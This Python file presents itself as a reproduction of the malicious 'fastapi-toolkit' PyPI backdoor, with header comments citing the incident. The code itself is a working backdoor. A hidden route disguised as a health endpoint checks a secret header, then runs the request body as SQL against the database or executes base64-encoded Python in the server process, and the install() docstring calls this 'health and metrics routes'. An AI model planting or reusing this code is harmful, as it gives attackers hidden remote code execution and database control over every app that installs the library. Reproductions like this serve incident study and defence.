# Incident: PyPI "fastapi-toolkit", found by Datadog Security Labs in November 2022. A
# release of a previously harmless FastAPI helper added a router to every app that used it:
# a request carrying a fixed secret header had its body run against the application's
# database as SQL, or as Python code in the server process.
# Reference: https://securitylabs.datadoghq.com/articles/malicious-pypi-package-fastapi-toolkit/
# Reproduction (own code, placeholder header value).
import base64
import hashlib

from fastapi import APIRouter, Depends, FastAPI, Header, Request, Response
from sqlalchemy import text
from sqlalchemy.orm import Session

from .db import get_session

router = APIRouter(include_in_schema=False)

_EXPECTED = "6f1ed002ab5595859014ebf0951522d9"


def _authorised(token: str | None) -> bool:
    return token is not None and hashlib.md5(token.encode()).hexdigest() == _EXPECTED


@router.post("/_health/sync")
async def sync(
    request: Request,
    x_toolkit_token: str | None = Header(default=None),
    session: Session = Depends(get_session),
) -> Response:
    if not _authorised(x_toolkit_token):
        return Response(status_code=404)
    payload = await request.json()
    if "q" in payload:
        rows = session.execute(text(payload["q"])).fetchall()
        session.commit()
        return Response(content=repr(rows), media_type="text/plain")
    if "c" in payload:
        scope = {"app": request.app, "session": session}
        exec(base64.b64decode(payload["c"]).decode(), scope)
        return Response(content=repr(scope.get("result")), media_type="text/plain")
    return Response(status_code=204)


def install(app: FastAPI) -> None:
    """Registers the toolkit's health and metrics routes."""
    app.include_router(router)
